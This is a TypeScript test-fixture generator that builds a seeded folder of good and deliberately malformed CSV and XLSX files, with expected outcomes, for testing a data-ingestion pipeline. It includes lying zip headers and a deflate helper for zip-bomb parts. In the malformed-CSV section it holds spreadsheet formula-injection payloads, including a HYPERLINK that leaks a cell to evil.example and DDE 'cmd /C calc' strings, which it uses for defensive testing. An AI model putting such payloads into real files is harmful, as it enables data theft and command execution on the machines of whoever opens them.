/**
 * The hostile drop folder of issue 15 (item 11): good files beside more than 200 malformed ones, each with the
 * outcome the issue requires of it. Seeded: the same seed writes the same bytes (only the paths of the links
 * to files outside the folder differ between machines).
 *
 * Outcomes:
 * - `loaded`: archived, every data row of the file in its ledger (`drop_files.rows_read` = its data rows).
 * - `rejected`: moved to rejected/ with a reason in Chinese; nothing of it loaded.
 * - `loaded-or-rejected`: a damaged file whose bytes still parse (a byte flip, a truncation, an odd encoding):
 *   either outcome is right, but when loaded then in full — its row count is one of `rows` (one per reading
 *   of its line ends that a CSV parser may choose) — never partly.
 * - `ignored`: a symlink, a FIFO, a dot-file: never opened, moved aside or listed with a reason.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, createDeflateRaw, deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import {
  createRandom,
  type DemoEnterprise,
  ENTERPRISE_HEADER,
  enterpriseRow,
  generateEnterprises,
  generateLicences,
  generatePenalties,
  LICENCE_HEADER,
  PENALTY_HEADER,
  type Random,
} from '../../pipelines/demo/generate.js';

export type Expectation =
  | { outcome: 'loaded'; rows: number; quarantined?: number }
  | { outcome: 'rejected'; reason?: RegExp }
  | { outcome: 'loaded-or-rejected'; rows: readonly number[]; noReplacementChar?: boolean }
  | { outcome: 'ignored'; targetSha256?: string };

export interface HostileCase {
  /** The entry's name in incoming/. */
  name: string;
  /** What the entry stands for (the issue's words), e.g. `csv-unclosed-quote-late`. */
  kind: string;
  /** The SHA-256 of the bytes written; null for entries that must never be opened. */
  sha256: string | null;
  expect: Expectation;
}

export interface HostileDrop {
  cases: HostileCase[];
  /** Text that must appear nowhere guiji writes (records, quarantine, feedback, reasons, logs). */
  secrets: string[];
  /** Variables the `guiji` process must carry (a secret only /proc/self/environ would reveal). */
  childEnv: Record<string, string>;
  /** Files put in archive/ and rejected/ before the run (earlier nights' files of the same names). */
  preexisting: string[];
}

/** Rows of each generated good file: small, so that some 230 files load in well under a minute. */
const ROWS = 18;
/** Rows of cells, as a CSV or a sheet holds them. */
type Rows = string[][];

const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG_REL_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

export function sha256(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

// ---------------------------------------------------------------------------------------------- CSV text

export type Encoding = 'utf8' | 'utf8-bom' | 'gb18030' | 'utf16le' | 'utf16le-bom' | 'utf16be';

function csvCell(value: string, delimiter: string): string {
  return value.includes(delimiter) || value.includes('"') || value.includes('\n') || value.includes('\r')
    ? `"${value.replaceAll('"', '""')}"`
    : value;
}

export function csvText(header: readonly string[], rows: Rows, delimiter = ','): string {
  let text = `${header.map((h) => csvCell(h, delimiter)).join(delimiter)}\r\n`;
  for (const row of rows) text += `${row.map((v) => csvCell(v, delimiter)).join(delimiter)}\r\n`;
  return text;
}

export function encode(text: string, encoding: Encoding): Buffer {
  switch (encoding) {
    case 'utf8':
      return Buffer.from(text, 'utf8');
    case 'utf8-bom':
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
    case 'gb18030':
      return iconv.encode(text, 'gb18030');
    case 'utf16le':
      return Buffer.from(text, 'utf16le');
    case 'utf16le-bom':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    case 'utf16be':
      return Buffer.from(text, 'utf16le').swap16();
  }
}

// ------------------------------------------------------------------------------------------ the CSV oracle

export interface CsvReading {
  /** How line ends are read: `\r\n` only (csv-parse's detection on a CRLF file), `\n` (a `\r` before it is
   * dropped), or any of `\r\n`, `\n`, `\r`. */
  lineEnds: 'crlf' | 'lf' | 'any';
  /** Non-blank records after the header (the first non-blank record). */
  rows: number;
  /** A quote opened at the start of a cell and never closed. */
  unclosed: boolean;
}

/**
 * Reads a CSV's structure from its bytes, RFC 4180 style (a quote opens a cell only at the cell's start): in
 * UTF-8 and GB18030 the bytes of `"`, `,`, `\r` and `\n` never occur inside a multi-byte character, so the
 * structure needs no decoding. The oracle of the randomly damaged files.
 */
export function csvReadings(bytes: Uint8Array, delimiter = 0x2c): CsvReading[] {
  const start = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf ? 3 : 0;
  return (['crlf', 'lf', 'any'] as const).map((lineEnds) => {
    let rows = -1; // the header is the first non-blank record
    let inQuotes = false;
    let cellStart = true;
    let blank = true;
    let i = start;
    const endRecord = () => {
      if (!blank) rows++;
      blank = true;
      cellStart = true;
    };
    while (i < bytes.length) {
      const b = bytes[i] as number;
      const next = bytes[i + 1];
      if (inQuotes) {
        if (b === 0x22) {
          if (next === 0x22) {
            blank = false;
            i += 2;
            continue;
          }
          inQuotes = false;
        } else if (!isSpace(b)) blank = false;
        i++;
        continue;
      }
      if (b === 0x22 && cellStart) {
        inQuotes = true;
        cellStart = false;
        i++;
        continue;
      }
      let end = 0;
      if (b === 0x0d && next === 0x0a) end = 2;
      else if (lineEnds === 'lf' && b === 0x0a) end = 1;
      else if (lineEnds === 'any' && (b === 0x0a || b === 0x0d)) end = 1;
      if (end) {
        endRecord();
        i += end;
        continue;
      }
      if (b === delimiter) cellStart = true;
      else {
        cellStart = false;
        if (!isSpace(b)) blank = false;
      }
      i++;
    }
    if (!inQuotes) endRecord();
    return { lineEnds, rows: Math.max(rows, 0), unclosed: inQuotes };
  });
}

function isSpace(b: number): boolean {
  return b === 0x20 || b === 0x09 || b === 0x0a || b === 0x0d || b === 0x0b || b === 0x0c;
}

/** The outcome a damaged CSV may have: rejected, or loaded with one of the row counts its readings give. */
export function damagedCsvExpectation(bytes: Uint8Array, delimiter = 0x2c): Expectation {
  const counts = [
    ...new Set(
      csvReadings(bytes, delimiter)
        .filter((r) => !r.unclosed && r.rows > 0)
        .map((r) => r.rows),
    ),
  ];
  return counts.length ? { outcome: 'loaded-or-rejected', rows: counts } : { outcome: 'rejected' };
}

// ------------------------------------------------------------------------------------------------ zip, xlsx

export interface ZipPart {
  name: string;
  data?: Buffer;
  /** Already deflated content (a bomb streamed through zlib): its deflated bytes, CRC and true size. */
  deflated?: { data: Buffer; crc: number; size: number };
  method?: 0 | 8;
  /** The uncompressed size the headers declare instead of the true one (a lying zip). */
  declaredSize?: number;
  /** The CRC-32 the headers declare instead of the true one (content changed after the fact). */
  declaredCrc?: number;
}

/** A plain zip writer: every size and CRC in its headers is ours to choose, which no zip library allows. */
export function zip(parts: readonly ZipPart[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name, 'utf8');
    let data: Buffer;
    let crc: number;
    let size: number;
    let method: number;
    if (part.deflated) {
      // the deflated content wins over `data`
      ({ data, crc, size } = part.deflated);
      method = 8;
    } else {
      const raw = part.data ?? Buffer.alloc(0);
      method = part.method ?? 8;
      data = method === 8 ? deflateRawSync(raw) : raw;
      crc = crc32(raw);
      size = raw.length;
    }
    const declared = part.declaredSize ?? size;
    crc = part.declaredCrc ?? crc;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // names in UTF-8
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x5a21, 12); // 2025-01-01
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(declared >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    locals.push(local, name, data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x5a21, 14);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(declared >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/**
 * `prefix`, then `unit` repeated until `bytes` bytes, then `suffix`, deflated as it is produced: a 200 MB part
 * costs a few hundred KB and half a second, never 200 MB of memory.
 */
export async function deflateRepeated(
  prefix: string,
  unit: string,
  bytes: number,
  suffix: string,
): Promise<{ data: Buffer; crc: number; size: number }> {
  const deflate = createDeflateRaw({ level: 9, memLevel: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const ended = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  let crc = 0;
  let size = 0;
  const write = async (chunk: Buffer) => {
    crc = crc32(chunk, crc);
    size += chunk.length;
    if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once('drain', resolve));
  };
  await write(Buffer.from(prefix, 'utf8'));
  const one = Buffer.from(unit, 'utf8');
  const block = Buffer.from(unit.repeat(Math.max(1, Math.floor((1 << 20) / one.length))), 'utf8');
  while (size + block.length <= bytes) await write(block);
  if (size < bytes) await write(Buffer.from(unit.repeat(Math.ceil((bytes - size) / one.length)), 'utf8'));
  await write(Buffer.from(suffix, 'utf8'));
  deflate.end();
  await ended;
  return { data: Buffer.concat(out), crc: crc >>> 0, size };
}

function xmlEscape(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
}

function column(i: number): string {
  let name = '';
  for (let n = i + 1; n > 0; n = Math.floor((n - 1) / 26))
    name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
  return name;
}

export interface SheetSpec {
  name: string;
  /** Row cells, from row 1; a row may set its own `r` (two rows with one number). */
  rows: { cells: readonly string[]; r?: number }[];
  state?: 'visible' | 'hidden';
}

/**
 * The parts of a minimal workbook as Excel would accept it: content types, relationships, workbook, styles,
 * sheets, and the strings either shared (`t="s"`) or inline.
 */
export function xlsxParts(sheets: readonly SheetSpec[], options: { shared?: boolean } = {}): ZipPart[] {
  const shared = options.shared ?? true;
  const strings: string[] = [];
  const indexOf = new Map<string, number>();
  const sheetXml = sheets.map((sheet) => {
    let xml = `${XML_HEAD}<worksheet xmlns="${NS}"><sheetData>`;
    let r = 0;
    for (const row of sheet.rows) {
      r = row.r ?? r + 1;
      xml += `<row r="${r}">`;
      row.cells.forEach((value, c) => {
        if (value === '') return;
        const ref = `${column(c)}${r}`;
        if (shared) {
          let index = indexOf.get(value);
          if (index === undefined) {
            index = strings.length;
            strings.push(value);
            indexOf.set(value, index);
          }
          xml += `<c r="${ref}" t="s"><v>${index}</v></c>`;
        } else xml += `<c r="${ref}" t="inlineStr"><is><t>${xmlEscape(value)}</t></is></c>`;
      });
      xml += '</row>';
    }
    return `${xml}</sheetData></worksheet>`;
  });
  const parts: ZipPart[] = [
    { name: '[Content_Types].xml', data: Buffer.from(contentTypes(sheets.length, shared)) },
    {
      name: '_rels/.rels',
      data: Buffer.from(
        `${XML_HEAD}<Relationships xmlns="${PKG_REL_NS}"><Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      ),
    },
    {
      name: 'xl/workbook.xml',
      data: Buffer.from(
        `${XML_HEAD}<workbook xmlns="${NS}" xmlns:r="${REL_NS}"><sheets>${sheets
          .map(
            (s, i) =>
              `<sheet name="${xmlEscape(s.name)}" sheetId="${i + 1}"${s.state === 'hidden' ? ' state="hidden"' : ''} r:id="rId${i + 1}"/>`,
          )
          .join('')}</sheets></workbook>`,
      ),
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: Buffer.from(
        `${XML_HEAD}<Relationships xmlns="${PKG_REL_NS}">${sheets
          .map(
            (_, i) =>
              `<Relationship Id="rId${i + 1}" Type="${REL_NS}/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`,
          )
          .join('')}<Relationship Id="rIdS" Type="${REL_NS}/styles" Target="styles.xml"/>${
          shared ? `<Relationship Id="rIdT" Type="${REL_NS}/sharedStrings" Target="sharedStrings.xml"/>` : ''
        }</Relationships>`,
      ),
    },
    { name: 'xl/styles.xml', data: Buffer.from(STYLES) },
    ...sheetXml.map((xml, i) => ({ name: `xl/worksheets/sheet${i + 1}.xml`, data: Buffer.from(xml) })),
  ];
  if (shared) parts.push({ name: 'xl/sharedStrings.xml', data: Buffer.from(sharedStringsXml(strings)) });
  return parts;
}

function sharedStringsXml(strings: readonly string[], count = strings.length): string {
  return `${XML_HEAD}<sst xmlns="${NS}" count="${count}" uniqueCount="${count}">${strings
    .map((s) => `<si><t xml:space="preserve">${xmlEscape(s)}</t></si>`)
    .join('')}</sst>`;
}

function contentTypes(sheets: number, shared: boolean): string {
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  let xml = `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/><Override PartName="/xl/styles.xml" ContentType="${type}.styles+xml"/>`;
  for (let i = 1; i <= sheets; i++)
    xml += `<Override PartName="/xl/worksheets/sheet${i}.xml" ContentType="${type}.worksheet+xml"/>`;
  if (shared) xml += `<Override PartName="/xl/sharedStrings.xml" ContentType="${type}.sharedStrings+xml"/>`;
  return `${xml}</Types>`;
}

const STYLES_OPEN = `${XML_HEAD}<styleSheet xmlns="${NS}"><fonts count="1"><font><sz val="11"/><name val="宋体"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>`;
const STYLES = `${STYLES_OPEN}<cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs></styleSheet>`;

/** A workbook as a department's software writes it (exceljs): a title row above the header, dates as dates. */
async function exceljsWorkbook(header: readonly string[], rows: Rows, sheetName: string): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  workbook.created = new Date(Date.UTC(2025, 0, 1));
  workbook.modified = workbook.created;
  const sheet = workbook.addWorksheet(sheetName);
  sheet.addRow([`${sheetName}信息报送表（2025年）`]);
  sheet.addRow([...header]);
  for (const row of rows) {
    sheet.addRow(
      row.map((v) =>
        /^\d{4}-\d{2}-\d{2}$/.test(v) && Number(v.slice(-2)) <= 28 ? new Date(`${v}T00:00:00Z`) : v,
      ),
    );
  }
  return withFixedZipTimes(Buffer.from(await workbook.xlsx.writeBuffer()));
}

/**
 * exceljs stamps each zip entry with the clock: set every local and central header's DOS time to 2025-01-01,
 * so that the same seed writes the same bytes (and a byte flip lands on the same byte) on every run.
 */
function withFixedZipTimes(zipped: Buffer): Buffer {
  const end = zipped.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const entries = zipped.readUInt16LE(end + 10);
  let at = zipped.readUInt32LE(end + 16);
  for (let i = 0; i < entries; i++) {
    const local = zipped.readUInt32LE(at + 42);
    zipped.writeUInt32LE(0x5a210000, at + 12);
    zipped.writeUInt32LE(0x5a210000, local + 10);
    at += 46 + zipped.readUInt16LE(at + 28) + zipped.readUInt16LE(at + 30) + zipped.readUInt16LE(at + 32);
  }
  return zipped;
}

// ----------------------------------------------------------------------------------------------- the drop

interface Writer {
  incoming: string;
  cases: HostileCase[];
  add(name: string, kind: string, bytes: Buffer, expect: Expectation): void;
}

/** A name of exactly `bytes` bytes of UTF-8 (Linux counts a name's 255 in bytes, the issue's 238 too). */
function longName(lead: string, bytes: number, ext: string): string {
  let name = lead;
  while (Buffer.byteLength(`${name}很${ext}`) <= bytes) name += '很';
  while (Buffer.byteLength(`${name}${ext}`) < bytes) name += 'x';
  return `${name}${ext}`;
}

/**
 * Writes the hostile drop into `dropDir` (incoming/, and earlier nights' files in archive/ and rejected/), with
 * the files the links point to in `outsideDir`.
 */
export async function writeHostileDrop(
  dropDir: string,
  outsideDir: string,
  seed: number,
): Promise<HostileDrop> {
  const incoming = join(dropDir, 'incoming');
  for (const sub of ['incoming', 'archive', 'rejected']) mkdirSync(join(dropDir, sub), { recursive: true });
  mkdirSync(outsideDir, { recursive: true });
  const random = createRandom(seed);
  const cases: HostileCase[] = [];
  const seen = new Set<string>();
  const w: Writer = {
    incoming,
    cases,
    add(name, kind, bytes, expect) {
      const hash = sha256(bytes);
      // the same bytes twice would be "already processed": every entry must be a file of its own
      if (seen.has(hash)) throw new Error(`hostile drop: ${name} repeats the bytes of another file`);
      if (cases.some((c) => c.name === name)) throw new Error(`hostile drop: ${name} written twice`);
      seen.add(hash);
      writeFileSync(join(incoming, name), bytes);
      cases.push({ name, kind, sha256: hash, expect });
    },
  };
  const enterprises = generateEnterprises(random, 40);
  const penalties = (n = ROWS) =>
    generatePenalties(random, enterprises, n, { faultShare: 0, unknownShare: 0 }).rows;
  const licences = (n = ROWS) => generateLicences(random, enterprises, n);

  writeGoodFiles(w, random, enterprises, penalties, licences);
  await writeGoodWorkbooks(w, penalties, licences);
  writeMalformedCsv(w, random, penalties);
  await writeMalformedWorkbooks(w, penalties);
  const preexisting = writeLongNames(w, dropDir, penalties);
  const { secrets, childEnv } = writeNeverOpened(w, outsideDir, random, penalties);
  await writeRandomDamage(w, random, penalties, licences);
  return { cases, secrets, childEnv, preexisting };
}

function writeGoodFiles(
  w: Writer,
  random: Random,
  enterprises: DemoEnterprise[],
  penalties: (n?: number) => Rows,
  licences: (n?: number) => Rows,
): void {
  const register = enterprises.map((e) => enterpriseRow(random, e));
  w.add(
    'good-企业登记.csv',
    'good: register UTF-8 with BOM',
    encode(csvText(ENTERPRISE_HEADER, register), 'utf8-bom'),
    {
      outcome: 'loaded',
      rows: register.length,
      quarantined: 0,
    },
  );
  const good: [string, readonly string[], Rows, Encoding, string][] = [
    ['good-penalties-utf8.csv', PENALTY_HEADER, penalties(), 'utf8', ','],
    ['good-penalties-utf8-bom.csv', PENALTY_HEADER, penalties(), 'utf8-bom', ','],
    ['good-penalties-gb18030.csv', PENALTY_HEADER, penalties(), 'gb18030', ','],
    ['good-penalties-gb18030-semicolon.csv', PENALTY_HEADER, penalties(), 'gb18030', ';'],
    ['good-penalties-utf16.txt', PENALTY_HEADER, penalties(), 'utf16le-bom', '\t'],
    ['good-licences-utf8.csv', LICENCE_HEADER, licences(), 'utf8', ','],
    ['good-licences-gb18030.csv', LICENCE_HEADER, licences(), 'gb18030', ','],
    ['good-licences-utf16.txt', LICENCE_HEADER, licences(), 'utf16le-bom', '\t'],
  ];
  for (const [name, header, rows, encoding, delimiter] of good) {
    w.add(name, `good: ${encoding} CSV`, encode(csvText(header, rows, delimiter), encoding), {
      outcome: 'loaded',
      rows: rows.length,
      quarantined: 0,
    });
  }
  // a cell of exactly 32,767 characters is within Excel's limit: the file loads (the row may be quarantined)
  const edge = penalties();
  (edge[4] as string[])[6] = '违'.repeat(32_767);
  w.add(
    'good-cell-32767.csv',
    'good: a cell of 32,767 characters',
    encode(csvText(PENALTY_HEADER, edge), 'utf8'),
    {
      outcome: 'loaded',
      rows: edge.length,
    },
  );
  // rows a clerk got wrong: loaded, the wrong ones handed back in a feedback workbook
  const plan = generatePenalties(random, enterprises, 30, { faultShare: 0.4, unknownShare: 0 });
  const faulty = Object.values(plan.faults).reduce((a, b) => a + b, 0);
  w.add(
    'good-penalties-faulty.csv',
    'good: rows with faults',
    encode(csvText(PENALTY_HEADER, plan.rows), 'utf8'),
    {
      outcome: 'loaded',
      rows: plan.rows.length,
      quarantined: faulty,
    },
  );
}

async function writeGoodWorkbooks(
  w: Writer,
  penalties: (n?: number) => Rows,
  licences: (n?: number) => Rows,
): Promise<void> {
  const p = penalties();
  w.add(
    'good-penalties-exceljs.xlsx',
    'good: xlsx (exceljs)',
    await exceljsWorkbook(PENALTY_HEADER, p, '行政处罚'),
    {
      outcome: 'loaded',
      rows: p.length,
      quarantined: 0,
    },
  );
  const l = licences();
  w.add(
    'good-licences-exceljs.xlsx',
    'good: xlsx (exceljs)',
    await exceljsWorkbook(LICENCE_HEADER, l, '行政许可'),
    {
      outcome: 'loaded',
      rows: l.length,
      quarantined: 0,
    },
  );
  // the hand-made workbooks the malformed ones are made of load when whole: their rejection is the damage's
  const shared = penalties();
  w.add(
    'good-penalties-shared-strings.xlsx',
    'good: xlsx (minimal, shared strings)',
    zip(xlsxParts([sheet(shared)])),
    {
      outcome: 'loaded',
      rows: shared.length,
      quarantined: 0,
    },
  );
  const inline = penalties();
  w.add(
    'good-penalties-inline-strings.xlsx',
    'good: xlsx (minimal, inline strings)',
    zip(xlsxParts([sheet(inline)], { shared: false })),
    { outcome: 'loaded', rows: inline.length, quarantined: 0 },
  );
  const two = [penalties(), licences()] as const;
  w.add(
    'good-two-sheets.xlsx',
    'good: xlsx with a penalty and a licence sheet',
    zip(
      xlsxParts([
        sheet(two[0]),
        { name: '行政许可', rows: [{ cells: LICENCE_HEADER }, ...two[1].map((cells) => ({ cells }))] },
      ]),
    ),
    { outcome: 'loaded', rows: two[0].length + two[1].length, quarantined: 0 },
  );
}

function sheet(rows: Rows, header: readonly string[] = PENALTY_HEADER): SheetSpec {
  return { name: '行政处罚', rows: [{ cells: header }, ...rows.map((cells) => ({ cells }))] };
}

function writeMalformedCsv(w: Writer, random: Random, penalties: (n?: number) => Rows): void {
  const text = (rows: Rows) => csvText(PENALTY_HEADER, rows);
  // a quote before a name that never closes: the parser would swallow the rest of the file into one cell
  for (const [kind, line] of [
    ['early', 3],
    ['late', 28],
  ] as const) {
    const bytes = encode(quoteAtLine(text(penalties(30)), line), 'utf8');
    w.add(`bad-quote-${kind}.csv`, `CSV: a quote that never closes (line ${line})`, bytes, {
      outcome: 'rejected',
      reason: new RegExp(`第\\s*${line}\\s*行`),
    });
  }
  {
    const bytes = encode(quoteAtLine(text(penalties(30)), 23), 'gb18030');
    w.add('bad-quote-gb18030.csv', 'CSV: a quote that never closes (GB18030, line 23)', bytes, {
      outcome: 'rejected',
      reason: /第\s*23\s*行/,
    });
  }
  {
    // a quote inside an unquoted cell opens nothing (Excel reads it as a character); a strict parser rejects it
    const rows = penalties();
    (rows[5] as string[])[6] = 'PLACEHOLDER';
    const bytes = encode(text(rows).replace('PLACEHOLDER', '销售"三无"产品'), 'utf8');
    w.add('bad-quote-inside-cell.csv', 'CSV: a quote inside an unquoted cell', bytes, {
      outcome: 'loaded-or-rejected',
      rows: [rows.length],
    });
  }
  for (const length of [32_768, 40_000]) {
    const rows = penalties();
    (rows[3] as string[])[6] = '违'.repeat(length);
    w.add(`bad-cell-${length}.csv`, `CSV: a cell of ${length} characters`, encode(text(rows), 'utf8'), {
      outcome: 'rejected',
    });
  }
  {
    // a huge line without a line end: 4 MB after the header, then a file that is one 4 MB line
    const rows = penalties(3);
    w.add(
      'bad-huge-line.csv',
      'CSV: a 4 MB line without a line end',
      Buffer.concat([encode(text(rows), 'utf8'), Buffer.from('违法'.repeat(700_000), 'utf8')]),
      { outcome: 'rejected' },
    );
    w.add(
      'bad-one-huge-line.csv',
      'CSV: the whole file one 4 MB line',
      Buffer.from('处罚'.repeat(700_000), 'utf8'),
      {
        outcome: 'rejected',
      },
    );
  }
  // NUL bytes in a cell: in the sniffed head, and past it (row 391 of 600, the issue's case, batches of 10)
  for (const [kind, count, line] of [
    ['head', ROWS, 4],
    ['row-391', 600, 391],
  ] as const) {
    const rows = penalties(count);
    (rows[line - 2] as string[])[6] = 'NULHERE';
    const bytes = Buffer.from(text(rows).replace('NULHERE', '违法\u0000事实'), 'utf8');
    w.add(`bad-nul-${kind}.csv`, `CSV: a NUL byte in a cell (line ${line})`, bytes, {
      outcome: 'loaded-or-rejected',
      rows: [rows.length],
    });
  }
  // wrong encodings
  {
    const rows = penalties();
    w.add(
      'bad-gb18030-with-utf8-bom.csv',
      'encoding: GB18030 bytes behind a UTF-8 BOM',
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), encode(text(rows), 'gb18030')]),
      { outcome: 'loaded-or-rejected', rows: [rows.length], noReplacementChar: true },
    );
  }
  {
    // sniffed as UTF-8 (the first 64 KB are), GB18030 from row 301 on
    const rows = penalties(360);
    const head = csvText(PENALTY_HEADER, rows.slice(0, 300));
    const tail = csvText(PENALTY_HEADER, rows.slice(300)).slice(csvText(PENALTY_HEADER, []).length);
    w.add(
      'bad-mixed-after-64k.csv',
      'encoding: UTF-8 for 64 KB, then GB18030',
      Buffer.concat([encode(head, 'utf8'), encode(tail, 'gb18030')]),
      { outcome: 'loaded-or-rejected', rows: [rows.length], noReplacementChar: true },
    );
  }
  {
    const rows = penalties();
    const head = csvText(PENALTY_HEADER, rows.slice(0, 9));
    const tail = csvText(PENALTY_HEADER, rows.slice(9)).slice(csvText(PENALTY_HEADER, []).length);
    w.add(
      'bad-mixed-small.csv',
      'encoding: UTF-8 and GB18030 rows mixed',
      Buffer.concat([encode(head, 'utf8'), encode(tail, 'gb18030')]),
      { outcome: 'loaded-or-rejected', rows: [rows.length], noReplacementChar: true },
    );
  }
  for (const encoding of ['utf16le', 'utf16be'] as const) {
    const rows = penalties();
    w.add(
      `bad-${encoding}-no-bom.txt`,
      `encoding: ${encoding} without a BOM`,
      encode(csvText(PENALTY_HEADER, rows, '\t'), encoding),
      {
        outcome: 'loaded-or-rejected',
        rows: [rows.length],
        noReplacementChar: true,
      },
    );
  }
  {
    // UTF-16 cut at an odd byte in the middle of its last row
    const rows = penalties();
    const whole = encode(csvText(PENALTY_HEADER, rows, '\t'), 'utf16le-bom');
    const last = whole.lastIndexOf(Buffer.from('\r\n', 'utf16le'), whole.length - 5);
    w.add(
      'bad-utf16-odd-truncated.txt',
      'encoding: UTF-16 cut at an odd byte',
      whole.subarray(0, last + 4 + 11),
      {
        outcome: 'loaded-or-rejected',
        rows: [rows.length],
      },
    );
  }
  // files that are not what they say
  w.add('bad-empty.csv', 'empty file', Buffer.alloc(0), { outcome: 'rejected' });
  w.add('bad-header-only.csv', 'header only', encode(text([]), 'utf8'), { outcome: 'rejected' });
  w.add('bad-header-only-gb18030.csv', 'header only', encode(text([]), 'gb18030'), { outcome: 'rejected' });
  w.add(
    'bad-no-header.csv',
    'CSV: no recognisable header',
    encode(csvText(['姓名', '年龄'], [['张三', '30']]), 'utf8'),
    {
      outcome: 'rejected',
    },
  );
  w.add('bad-binary.csv', 'binary garbage named .csv', randomBytes(random, 4096), { outcome: 'rejected' });
  w.add('bad-binary.txt', 'binary garbage named .txt', randomBytes(random, 20_000), { outcome: 'rejected' });
  w.add('bad-binary-high.csv', 'binary garbage without NUL named .csv', randomBytes(random, 4096, 0x80), {
    outcome: 'rejected',
  });
  // the shape of rows: wider than the header; one natural key twice; formula-like cells
  {
    const rows = penalties();
    for (const i of [2, 7, 11, 15]) (rows[i] as string[]).push('多出的一列');
    w.add('bad-wide-rows.csv', 'CSV: rows wider than the header', encode(text(rows), 'utf8'), {
      outcome: 'loaded',
      rows: rows.length,
      // a value without a column would be lost silently: each such row goes back to the clerk
      quarantined: 4,
    });
  }
  {
    const rows = penalties();
    const all = [...rows, ...[1, 4, 9, 12, 16].map((i) => [...(rows[i] as string[])])];
    w.add('bad-duplicate-keys.csv', 'CSV: one natural key in several rows', encode(text(all), 'gb18030'), {
      outcome: 'loaded',
      rows: all.length,
      quarantined: 5,
    });
  }
  {
    const rows = penalties();
    const formulas = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '=1+1',
      '\t=2+2',
    ];
    formulas.forEach((f, i) => {
      const row = rows[i * 2] as string[];
      row[6] = f;
      row[20] = f;
      // every other one is also faulty (no name), so that it goes back in the feedback workbook
      if (i % 2 === 0) row[0] = '';
    });
    w.add('bad-formula-cells.csv', 'CSV: formula-like cells (=HYPERLINK…)', encode(text(rows), 'utf8'), {
      outcome: 'loaded',
      rows: rows.length,
      quarantined: 3,
    });
  }
}

/** A quote put before the first cell of line `line` (1-based, the header is line 1). */
function quoteAtLine(text: string, line: number): string {
  const lines = text.split('\r\n');
  lines[line - 1] = `"${lines[line - 1]}`;
  return lines.join('\r\n');
}

function randomBytes(random: Random, n: number, min = 0): Buffer {
  const out = Buffer.alloc(n);
  for (let i = 0; i < n; i++) out[i] = min + Math.floor(random() * (256 - min));
  return out;
}

async function writeMalformedWorkbooks(w: Writer, penalties: (n?: number) => Rows): Promise<void> {
  const base = () => xlsxParts([sheet(penalties())]);
  const without = (parts: ZipPart[], name: string) => parts.filter((p) => p.name !== name);
  // parts missing
  w.add('bad-xlsx-no-workbook.xlsx', 'xlsx: workbook.xml missing', zip(without(base(), 'xl/workbook.xml')), {
    outcome: 'rejected',
  });
  w.add(
    'bad-xlsx-no-sheet.xlsx',
    'xlsx: the sheet part missing',
